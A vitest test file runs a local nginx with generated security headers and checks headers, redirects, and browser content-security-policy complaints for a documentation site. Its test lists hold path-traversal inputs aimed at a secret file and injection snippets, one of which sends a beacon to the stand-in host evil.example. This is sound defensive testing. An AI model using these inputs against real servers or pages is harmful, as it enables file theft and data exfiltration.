import { type ChildProcess, execFileSync, spawn } from 'node:child_process'
import { once } from 'node:events'
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { headerSet } from '../../scripts/headers/header-set.ts'
import { readPolicy } from '../../scripts/headers/read-policy.ts'
import { nginx as path } from '../../scripts/nginx.ts'
import { listen } from '../../scripts/serve/listen.ts'
import { rawGet } from '../raw-request.ts'
import { languages, useBrowser } from './open.ts'

const folder = mkdtempSync(join(tmpdir(), 'signpost-nginx-'))
const root = join(folder, 'site')
const secret = 'what stands outside the site'
let port = 0
let nginx: ChildProcess

beforeAll(async () => {
  cpSync('dist', root, { recursive: true })
  writeFileSync(join(folder, 'secret.txt'), secret)
  symlinkSync('../secret.txt', join(root, 'link.txt'))
  port = await freePort()
  const flags = ['--for', 'nginx', '--http', String(port), '--root', root, '--to', join(folder, 'site.conf')]
  execFileSync(process.execPath, ['scripts/headers.ts', ...flags])
  writeFileSync(join(folder, 'nginx.conf'), around(join(folder, 'site.conf')))
  nginx = spawn(path(), ['-p', folder, '-c', join(folder, 'nginx.conf'), '-e', join(folder, 'error.log')], {
    stdio: 'ignore',
  })
  await answers()
})

afterAll(async () => {
  nginx.kill()
  await once(nginx, 'exit')
  rmSync(folder, { recursive: true })
})

const open = useBrowser(() => `http://127.0.0.1:${port}`)

describe('nginx, configured by npm run headers', () => {
  test.each(['/', '/en/', '/en', '/nowhere/', '/pagefind/pagefind-worker.js', '/mark.svg', '/../x'])(
    'sends every header with %s',
    async (target) => {
      const due = headerSet(readPolicy('dist') ?? '').filter(({ only }) => only !== 'https')
      const { headers } = await rawGet(port, target)
      for (const { name, value } of due) expect(headers[name.toLowerCase()]).toBe(value)
      expect(headers['strict-transport-security']).toBeUndefined()
    },
  )

  test.each([
    ['/en', 301, { location: '/en/' }],
    ['/nowhere/', 404, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-cache' }],
    ['/pagefind/', 404, { 'content-type': 'text/html; charset=utf-8' }],
    ['/zh-hans/', 200, { 'content-encoding': 'gzip', 'cache-control': 'no-cache' }],
  ])('answers %s with %d', async (target, status, headers) => {
    expect(await rawGet(port, target, { 'Accept-Encoding': 'gzip' })).toMatchObject({ status, headers })
  })

  test.each([
    '/../secret.txt',
    '/%2e%2e/secret.txt',
    '/..%2fsecret.txt',
    '/link.txt',
    '//evil.example/../../secret.txt',
  ])('sends nothing from outside the site: %s', async (target) => {
    const { status, body } = await rawGet(port, target)
    expect([400, 404]).toContain(status)
    expect(body).not.toContain(secret)
  })

  test('keeps hashed files for ever', async () => {
    const [style] = /\/_astro\/[\w.-]+\.css/.exec((await rawGet(port, '/en/')).body) ?? []
    expect((await rawGet(port, style ?? '')).headers['cache-control']).toContain('immutable')
  })
})

describe('under its headers a browser finds nothing to complain of', () => {
  test.each([
    '/',
    '/s/scope/',
    ...languages.flatMap(({ folder }) =>
      ['', 'ims-troubleshooting/', 'check-up/', 'checks/', 'checks/scope/'].map((path) => `/${folder}/${path}`),
    ),
  ])('on %s', async (address) => {
    const page = await open(address)
    await page.waitForLoadState('networkidle')
    expect(page.problems).toEqual([])
  })

  test('on a page that is not there', async () => {
    const page = await open('/nl/nowhere/')
    await page.locator('[data-lost="nl"]:not([hidden]) input').fill('scope')
    await page.locator('[data-lost="nl"] [role="option"]').first().waitFor()
    // The browser tells the missing page itself.
    expect(page.problems.filter((problem) => !problem.includes('404'))).toEqual([])
  })

  test.each(languages)('while one searches: $folder', async ({ folder }) => {
    const page = await open(`/${folder}/ims-troubleshooting/`)
    await page.keyboard.press('Control+k')
    await page.locator('dialog input').fill('redirect_uri')
    await page.locator('dialog [role="option"] mark').first().waitFor()
    expect(page.workers()).toEqual([])
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('Enter')
    expect(page.problems).toEqual([])
  })

  test('while one types and copies', async () => {
    const page = await open('/en/ims-troubleshooting/')
    for (const button of await page.locator('[data-do="example"]').all()) await button.click()
    const form = page.locator('check-form[check="callback-url"]')
    await form.locator('.finding-list li').first().waitFor()
    await form.locator('[data-do="link"]').click()
    await page.locator('.link-dialog').waitFor()
    await page.keyboard.press('Enter')
    await expect.poll(() => page.clipboard()).toContain('/s/callback-url/#?')
    await page.keyboard.press('Escape')
    await page.locator('theme-choice button').click()
    expect(page.problems).toEqual([])
  })

  test('while one checks a whole configuration, and takes the report along', async () => {
    const page = await open('/en/check-up/')
    await page.locator('[data-do="sample"]').click()
    await page.locator('[data-group="mend"] li').first().waitFor()
    await page.locator('[data-do="copy-markdown"]').click()
    await expect.poll(() => page.clipboard()).toContain('# Check-up')
    expect(page.problems).toEqual([])
  })

  test.each<[string, () => void]>([
    [
      'a script in the page',
      () => document.head.append(Object.assign(document.createElement('script'), { text: '1' })),
    ],
    ['text as HTML', () => Object.assign(document.body, { innerHTML: '<p>' })],
    ['another worker', () => new Worker('/theme.js')],
    ['an image of another site', () => Object.assign(new Image(), { src: 'https://evil.example/x.png' })],
    ['a message to another site', () => navigator.sendBeacon('https://evil.example/', 'typed')],
    ['a frame', () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/en/' }))],
    ['a style', () => document.body.setAttribute('style', 'color: red')],
  ])('and would have: %s', async (_, smuggle) => {
    const page = await open('/en/')
    await page.evaluate(smuggle).catch(() => {})
    await expect.poll(() => page.problems.join()).toMatch(/forbids|violates|Refused|requires/)
  })
})

/** What a distribution puts around the sites, with all that is written in a folder of the test. */
function around(site: string): string {
  mkdirSync(join(folder, 'temporary'))
  const temporary = ['client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi'].map(
    (kind) => `${kind}_temp_path ${join(folder, 'temporary', kind)};`,
  )
  return [
    ...(process.getuid?.() === 0 ? ['user root;'] : []),
    'daemon off;',
    'worker_processes 1;',
    `pid ${join(folder, 'pid')};`,
    'events { worker_connections 256; }',
    'http {',
    'types { text/html html; text/css css; application/javascript js; application/json json; image/svg+xml svg; }',
    'access_log off;',
    ...temporary,
    `include ${site};`,
    '}',
  ].join('\n')
}

/** Waits until the server listens; one that does not start ends the waiting. */
async function answers(): Promise<void> {
  if (nginx.exitCode !== null)
    throw new Error(`nginx does not start: ${readFileSync(join(folder, 'error.log'), 'utf8')}`)
  if (
    await rawGet(port, '/').then(
      ({ status }) => status === 200,
      () => false,
    )
  )
    return
  await setTimeout(50)
  return answers()
}

async function freePort(): Promise<number> {
  const server = createServer()
  const port = await listen(server, 0)
  await new Promise((resolve) => server.close(resolve))
  return port
}
